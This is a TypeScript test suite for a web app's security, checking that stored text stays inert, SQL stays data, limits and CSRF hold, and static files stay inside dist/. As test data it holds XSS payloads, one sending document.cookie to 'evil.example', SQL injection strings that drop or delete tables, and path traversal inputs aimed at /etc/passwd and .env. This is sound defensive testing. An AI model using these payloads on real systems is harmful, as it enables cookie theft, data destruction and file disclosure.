// Security: stored text stays inert, SQL stays data, limits hold, moderator routes need a session and a CSRF
// token, and static files never leave dist/.
import { serve, type ServerType } from '@hono/node-server';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../server/app.ts';
import { API_CSP } from '../../server/security.ts';
import type { Store } from '../../server/store.ts';
import { PG_SKIP_REASON, STORES, freePort, setup, suggestion } from './helpers.ts';

const XSS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  "javascript:alert('x')",
  '<svg/onload=alert(1)>',
  '</script><script>fetch("//evil.example/"+document.cookie)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '&lt;b&gt;already escaped&lt;/b&gt; & <b>bold</b>',
];

function expectInertJson(r: Response) {
  expect(r.headers.get('content-type')).toMatch(/^application\/(geo\+)?json; charset=utf-8$/);
  expect(r.headers.get('content-security-policy')).toBe(API_CSP);
  expect(r.headers.get('x-content-type-options')).toBe('nosniff');
}

describe('stored text is returned as inert text (PGlite)', () => {
  let store: Store;
  let t: Awaited<ReturnType<typeof setup>>;
  beforeAll(async () => {
    store = await STORES[0].open();
    t = await setup(store);
  }, 60_000);
  afterAll(async () => store?.close());

  it.each(XSS)('payload %s in text, contact, reply and reason comes back unchanged, as JSON, never as markup', async (payload) => {
    const { cookie, csrf } = await t.login();
    const h = { cookie, 'x-csrf-token': csrf };
    const created = await t.post('/api/suggestions', suggestion({ text: payload, contact: payload }));
    expect(created.status).toBe(201);
    const { id, receipt } = await created.json();

    const rec = await t.req(`/api/suggestions/${receipt}`);
    expectInertJson(rec);
    const raw = await rec.text();
    expect(raw).not.toMatch(/[<>]/); // < and > travel as \u003c / \u003e
    expect(JSON.parse(raw).text).toBe(payload); // stored as text: not escaped, not stripped

    const list = await t.req('/api/mod/suggestions?status=pending', { headers: { cookie } });
    expectInertJson(list);
    const mine = (await list.json()).items.find((i: { id: number }) => i.id === id);
    expect(mine.contact).toBe(payload);

    const approved = await t.post(`/api/mod/suggestions/${id}/approve`, { reply: payload }, h);
    expectInertJson(approved);
    expect((await approved.json()).reply).toBe(payload);

    const geo = await t.req('/api/suggestions.geojson');
    expectInertJson(geo);
    const geoRaw = await geo.text();
    expect(geoRaw).not.toMatch(/[<>]/);
    const f = JSON.parse(geoRaw).features.find((x: { id: number }) => x.id === id);
    expect(f.properties).toMatchObject({ text: payload, reply: payload });

    const rejected = await t.post(`/api/mod/suggestions/${id}/reject`, { reason: payload }, h);
    expect((await rejected.json()).rejectReason).toBe(payload);
    expect((await (await t.req(`/api/suggestions/${receipt}`)).json()).rejectReason).toBe(payload);
  });

  it.each(XSS)('payload %s in a story and a check-in place comes back inert, as JSON text', async (payload) => {
    const { cookie, csrf } = await t.login();
    const made = await t.post('/api/stories', { clientId: `xss-${Math.random().toString(36).slice(2, 12)}`, place: 'county:510185', text: payload });
    expect(made.status).toBe(201);
    const { id } = await made.json();
    const queue = await t.req('/api/mod/stories', { headers: { cookie } });
    expectInertJson(queue);
    const qraw = await queue.text();
    expect(qraw).not.toMatch(/[<>]/);
    expect(JSON.parse(qraw).items.find((i: { id: number }) => i.id === id).text).toBe(payload);
    await t.post(`/api/mod/stories/${id}/approve`, {}, { cookie, 'x-csrf-token': csrf });
    const pub = await t.req('/api/stories?place=county:510185');
    expectInertJson(pub);
    const raw = await pub.text();
    expect(raw).not.toMatch(/[<>]/);
    expect(JSON.parse(raw).items.some((i: { text: string }) => i.text === payload)).toBe(true);
    // markup in a place key is refused, not stored
    const bad = await t.post('/api/checkins', { clientId: `xss-${Math.random().toString(36).slice(2, 12)}`, place: `element:${payload}` });
    expect(bad.status).toBe(400);
    expect(await bad.text()).not.toMatch(/[<>]/);
  });

  it('error answers echo nothing as markup either', async () => {
    const r = await t.post('/api/suggestions', { category: '<script>x</script>', text: 'x', elementId: 'a' });
    expect(r.status).toBe(400);
    expectInertJson(r);
    expect(await r.text()).not.toMatch(/[<>]/);
  });
});

for (const sc of STORES) {
  describe.skipIf(sc.skip)(`SQL injection attempts are data on ${sc.name}${sc.skip ? ` (skipped: ${PG_SKIP_REASON})` : ''}`, () => {
    let store: Store;
    let t: Awaited<ReturnType<typeof setup>>;
    beforeAll(async () => {
      store = await sc.open();
      t = await setup(store);
    }, 60_000);
    afterAll(async () => store?.close());

    it.each([
      "'); DROP TABLE suggestions; --",
      "' OR '1'='1",
      "1; UPDATE suggestions SET status='published' --",
      "$1 $$ ; SELECT pg_sleep(5); $$",
      "\\'; DELETE FROM moderators; --",
    ])('text %s is stored and read back verbatim, tables intact', async (payload) => {
      const r = await t.post('/api/suggestions', suggestion({ text: payload, contact: payload }));
      expect(r.status).toBe(201);
      const { receipt } = await r.json();
      const rec = await (await t.req(`/api/suggestions/${receipt}`)).json();
      expect(rec).toMatchObject({ text: payload, status: 'pending' });
      const counts = await store.query<{ s: number; m: number; p: number }>(
        "SELECT (SELECT count(*) FROM suggestions)::int AS s, (SELECT count(*) FROM moderators)::int AS m, (SELECT count(*) FROM suggestions WHERE status = 'published')::int AS p",
      );
      expect(counts.rows[0].s).toBeGreaterThan(0);
      expect(counts.rows[0].m).toBe(1);
      expect(counts.rows[0].p).toBe(0);
    });

    it('injection in the receipt, the status filter, ids and the login name is refused, not run', async () => {
      expect((await t.req(`/api/suggestions/${encodeURIComponent("' OR '1'='1")}`)).status).toBe(404);
      expect((await t.req(`/api/suggestions/${encodeURIComponent("x'; DROP TABLE suggestions; --")}`)).status).toBe(404);
      const { cookie, csrf } = await t.login();
      const bad = await t.req(`/api/mod/suggestions?status=${encodeURIComponent("pending' OR '1'='1")}`, { headers: { cookie } });
      expect(bad.status).toBe(400);
      const badId = await t.post(`/api/mod/suggestions/${encodeURIComponent('1 OR 1=1')}/approve`, {}, { cookie, 'x-csrf-token': csrf });
      expect(badId.status).toBe(404);
      const login = await t.post('/api/mod/login', { name: "' OR '1'='1' --", password: "' OR '1'='1' --" });
      expect(login.status).toBe(401);
      expect((await store.query<{ n: number }>("SELECT count(*)::int AS n FROM suggestions WHERE status <> 'pending'")).rows[0].n).toBe(0);
    });
  });
}

describe('limits and sessions (PGlite)', () => {
  let store: Store;
  let t: Awaited<ReturnType<typeof setup>>;
  let limited: Awaited<ReturnType<typeof setup>>;
  beforeAll(async () => {
    store = await STORES[0].open();
    t = await setup(store);
    limited = await setup(store, {
      limits: {
        submitIp: { burst: 3, perMinute: 1 },
        submitDevice: { burst: 2, perMinute: 1 },
        kioskDevice: { burst: 2, perMinute: 1 },
        readIp: { burst: 5, perMinute: 1 },
        loginIp: { burst: 2, perMinute: 1 },
      },
    });
  }, 60_000);
  afterAll(async () => store?.close());

  it('answers 413 for a body over 16 KiB, with or without Content-Length, and stores nothing', async () => {
    const before = (await store.query<{ n: number }>('SELECT count(*)::int AS n FROM suggestions')).rows[0].n;
    const big = JSON.stringify(suggestion({ text: 'x'.repeat(17 * 1024) }));
    const r = await t.req('/api/suggestions', { method: 'POST', headers: { 'content-type': 'application/json' }, body: big });
    expect(r.status).toBe(413);
    expect((await r.json()).error).toBe('too_large');
    const chunks = new ReadableStream({
      start(ctl) {
        for (let i = 0; i < 40; i++) ctl.enqueue(new TextEncoder().encode('x'.repeat(1024)));
        ctl.close();
      },
    });
    const chunked = await t.req('/api/suggestions', { method: 'POST', headers: { 'content-type': 'application/json' }, body: chunks, duplex: 'half' } as RequestInit);
    expect(chunked.status).toBe(413);
    expect((await store.query<{ n: number }>('SELECT count(*)::int AS n FROM suggestions')).rows[0].n).toBe(before);
  });

  it('rate limits submissions per IP with 429 and Retry-After; another IP is not affected', async () => {
    const codes = [];
    for (let i = 0; i < 5; i++) codes.push((await limited.post('/api/suggestions', suggestion(), {}, '10.0.0.1')).status);
    expect(codes).toEqual([201, 201, 201, 429, 429]);
    const r = await limited.post('/api/suggestions', suggestion(), {}, '10.0.0.1');
    expect(Number(r.headers.get('retry-after'))).toBeGreaterThan(0);
    expect((await r.json()).error).toBe('rate_limited');
    expect((await limited.post('/api/suggestions', suggestion(), {}, '10.0.0.2')).status).toBe(201);
  });

  it('rate limits submissions per device across IPs', async () => {
    const dev = { 'x-device-id': 'kiosk-device-abc123' };
    const codes = [];
    for (const ip of ['10.1.0.1', '10.1.0.2', '10.1.0.3']) codes.push((await limited.post('/api/suggestions', suggestion(), dev, ip)).status);
    expect(codes).toEqual([201, 201, 429]);
  });

  it('rate limits reads and login attempts per IP', async () => {
    const reads = [];
    for (let i = 0; i < 7; i++) reads.push((await limited.req('/api/suggestions.geojson', {}, '10.2.0.1')).status);
    expect(reads.slice(0, 5).every((s) => s === 200)).toBe(true);
    expect(reads.slice(5)).toEqual([429, 429]);
    const logins = [];
    for (let i = 0; i < 4; i++) logins.push((await limited.post('/api/mod/login', { name: limited.mod.name, password: 'wrong password!' }, {}, '10.3.0.1')).status);
    expect(logins).toEqual([401, 401, 429, 429]);
  });

  it('sets the session cookie HttpOnly, Secure, SameSite=Strict, host-only', async () => {
    const { setCookie } = await t.login();
    expect(setCookie).toMatch(/^__Host-atlas_mod=/);
    expect(setCookie).toMatch(/HttpOnly/);
    expect(setCookie).toMatch(/Secure/);
    expect(setCookie).toMatch(/SameSite=Strict/);
    expect(setCookie).toMatch(/Path=\//);
    expect(setCookie).not.toMatch(/Domain=/i);
  });

  it('answers 401 on every moderator route without a session, with a made-up one and after logout', async () => {
    const { id } = await (await t.post('/api/suggestions', suggestion())).json();
    const { cookie: old, csrf: oldCsrf } = await t.login();
    await t.post('/api/mod/logout', {}, { cookie: old, 'x-csrf-token': oldCsrf });
    const routes: [string, string][] = [
      ['GET', '/api/mod/session'],
      ['GET', '/api/mod/suggestions'],
      ['GET', '/api/mod/export.csv'],
      ['GET', '/api/mod/export.geojson'],
      ['GET', '/api/mod/audit'],
      ['POST', `/api/mod/suggestions/${id}/approve`],
      ['POST', `/api/mod/suggestions/${id}/reject`],
      ['POST', `/api/mod/suggestions/${id}/reply`],
      ['POST', `/api/mod/suggestions/${id}/merge`],
      ['GET', '/api/mod/stories'],
      ['POST', '/api/mod/stories/1/approve'],
      ['POST', '/api/mod/stories/1/reject'],
      ['POST', '/api/mod/logout'],
    ];
    for (const cookie of [undefined, '__Host-atlas_mod=forged-session-token', old]) {
      for (const [method, path] of routes) {
        const headers: Record<string, string> = { 'content-type': 'application/json', 'x-csrf-token': oldCsrf };
        if (cookie) headers.cookie = cookie;
        const r = await t.req(path, { method, headers, body: method === 'POST' ? JSON.stringify({ reason: 'x', reply: 'x' }) : undefined });
        expect(r.status, `${method} ${path} with ${cookie ?? 'no cookie'}`).toBe(401);
      }
    }
    expect((await store.query<{ status: string }>('SELECT status FROM suggestions WHERE id = $1', [id])).rows[0].status).toBe('pending');
  });

  it('a disabled moderator can neither log in nor use a session', async () => {
    const { cookie } = await t.login();
    await store.query('UPDATE moderators SET disabled = true WHERE id = $1', [t.mod.id]);
    try {
      expect((await t.req('/api/mod/session', { headers: { cookie } })).status).toBe(401);
      expect((await t.post('/api/mod/login', { name: t.mod.name, password: 'correct horse battery staple' })).status).toBe(401);
    } finally {
      await store.query('UPDATE moderators SET disabled = false WHERE id = $1', [t.mod.id]);
    }
  });

  it('answers 403 to a state change without the CSRF token, with a wrong one or another session’s; nothing changes', async () => {
    const { id } = await (await t.post('/api/suggestions', suggestion())).json();
    const story = await (await t.post('/api/stories', { clientId: 'csrf-story-1', place: 'county:510185', text: 'x' })).json();
    const a = await t.login();
    const b = await t.login();
    const auditBefore = (await store.query<{ n: number }>('SELECT count(*)::int AS n FROM audit_log WHERE suggestion_id = $1', [id])).rows[0].n;
    for (const token of [undefined, '', 'wrong-token', b.csrf]) {
      const headers: Record<string, string> = { cookie: a.cookie };
      if (token !== undefined) headers['x-csrf-token'] = token;
      for (const action of ['approve', 'reject', 'reply', 'merge']) {
        const r = await t.post(`/api/mod/suggestions/${id}/${action}`, { reason: 'x', reply: 'x', into: id }, headers);
        expect(r.status, `${action} with token ${JSON.stringify(token)}`).toBe(403);
      }
      for (const action of ['approve', 'reject']) {
        const r = await t.post(`/api/mod/stories/${story.id}/${action}`, { reason: 'x' }, headers);
        expect(r.status, `story ${action} with token ${JSON.stringify(token)}`).toBe(403);
      }
      expect((await t.post('/api/mod/logout', {}, headers)).status).toBe(403);
    }
    expect((await store.query<{ status: string }>('SELECT status FROM suggestions WHERE id = $1', [id])).rows[0].status).toBe('pending');
    expect((await store.query<{ n: number }>('SELECT count(*)::int AS n FROM audit_log WHERE suggestion_id = $1', [id])).rows[0].n).toBe(auditBefore);
    expect((await store.query<{ status: string }>('SELECT status FROM stories WHERE id = $1', [story.id])).rows[0].status).toBe('pending');
    expect((await t.req('/api/mod/session', { headers: { cookie: a.cookie } })).status).toBe(200); // still logged in
  });
});

/** A request line sent as-is over TCP (fetch would normalise the path first). */
function rawGet(port: number, path: string): Promise<{ status: number; headers: string; body: string }> {
  return new Promise((done, fail) => {
    const sock = connect(port, '127.0.0.1', () => sock.write(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`));
    let data = '';
    sock.on('data', (d) => (data += d.toString('latin1')));
    sock.on('end', () => {
      const [head, ...rest] = data.split('\r\n\r\n');
      done({ status: Number(head.split(' ')[1]), headers: head.toLowerCase(), body: rest.join('\r\n\r\n') });
    });
    sock.on('error', fail);
  });
}

describe('static files stay inside dist/ (PGlite, loopback server)', () => {
  let store: Store;
  let server: ServerType;
  let port: number;
  let dir: string;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'atlas-static-'));
    const dist = join(dir, 'dist');
    mkdirSync(join(dist, 'assets'), { recursive: true });
    writeFileSync(join(dist, 'index.html'), '<!doctype html><title>atlas</title>');
    writeFileSync(join(dist, 'assets', 'app-1234.js'), 'console.log(1)');
    writeFileSync(join(dist, '.env'), 'SECRET_IN_DOTFILE');
    writeFileSync(join(dir, 'secret.txt'), 'SECRET_OUTSIDE');
    symlinkSync(join(dir, 'secret.txt'), join(dist, 'link.txt'));
    store = await STORES[0].open();
    port = await freePort(8720, 8739);
    server = serve({ fetch: createApp({ store, distDir: dist }).fetch, port, hostname: '127.0.0.1' });
  }, 60_000);
  afterAll(async () => {
    server?.close();
    await store?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('serves the app with the app CSP and security headers, hashed assets as immutable', async () => {
    const index = await rawGet(port, '/');
    expect(index.status).toBe(200);
    expect(index.body).toContain('<title>atlas</title>');
    expect(index.headers).toContain('content-type: text/html; charset=utf-8');
    expect(index.headers).toMatch(/content-security-policy: default-src 'self'; script-src 'self';/);
    expect(index.headers).toContain("frame-ancestors 'none'");
    expect(index.headers).toContain('x-content-type-options: nosniff');
    expect(index.headers).toContain('x-frame-options: deny');
    const js = await rawGet(port, '/assets/app-1234.js');
    expect(js.status).toBe(200);
    expect(js.headers).toContain('content-type: text/javascript; charset=utf-8');
    expect(js.headers).toContain('cache-control: public, max-age=31536000, immutable');
  });

  it.each([
    '/../secret.txt',
    '/assets/../../secret.txt',
    '/%2e%2e/secret.txt',
    '/%2e%2e%2fsecret.txt',
    '/..%2fsecret.txt',
    '/assets/..%2f..%2fsecret.txt',
    '/%252e%252e/secret.txt',
    '/..%5csecret.txt',
    '/..\\secret.txt',
    '/index.html%00.js',
    '/.env',
    '/%2eenv',
    '/link.txt',
    '//etc/passwd',
    '/%2fetc%2fpasswd',
    '/assets/%c0%ae%c0%ae/secret.txt',
    '/nonexistent.js',
  ])('GET %s is a 404 that reveals nothing', async (path) => {
    const r = await rawGet(port, path);
    expect([400, 404]).toContain(r.status);
    expect(r.body).not.toContain('SECRET');
    expect(r.body).not.toContain('root:');
  });
});
